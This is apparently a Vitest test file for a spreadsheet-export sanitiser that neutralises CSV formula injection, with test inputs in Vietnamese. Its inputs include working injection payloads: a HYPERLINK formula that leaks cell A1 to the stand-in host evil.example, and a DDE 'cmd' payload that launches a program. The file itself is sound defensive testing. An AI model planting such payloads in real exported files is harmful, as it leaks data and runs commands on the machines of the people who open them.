import { describe, expect, it } from 'vitest';
import { neutraliseCell, neutraliseRow } from '../../src/domain/export/spreadsheet-cell.js';

describe('neutraliseCell (OWASP CSV injection)', () => {
  it.each([
    '=HYPERLINK("http://evil.example/?leak="&A1,"Bấm vào đây")',
    '=1+2',
    '@SUM(1)',
    '+1+2',
    '-1+2',
    "=cmd|' /C calc'!A0",
    '\t=1+2',
    '\r=1+2',
  ])('prefixes text that a spreadsheet would run: %j', (text) => {
    const out = neutraliseCell(text);
    expect(out).toBe(`'${text}`);
  });

  it.each(['Xã Tân Hòa', 'Phường 1', "'=already quoted", '1+2=3', ' =1+2', '', '—', '3/5', 'Đạt'])('leaves ordinary text alone: %j', (text) => {
    expect(neutraliseCell(text)).toBe(text);
  });

  it('keeps numbers as numbers, negative ones included', () => {
    expect(neutraliseCell(-3)).toBe(-3);
    expect(neutraliseCell(0)).toBe(0);
    expect(neutraliseCell(-0.5)).toBe(-0.5);
    expect(neutraliseCell(42)).toBe(42);
    expect(typeof neutraliseCell(-3)).toBe('number');
  });

  it('writes numbers a spreadsheet cannot hold as inert text', () => {
    expect(neutraliseCell(Number.NaN)).toBe('NaN');
    expect(neutraliseCell(Number.NEGATIVE_INFINITY)).toBe("'-Infinity");
  });

  it('maps a whole row, cell by cell', () => {
    expect(neutraliseRow(['12345', '=1+2', -1, 3])).toEqual(['12345', "'=1+2", -1, 3]);
  });
});
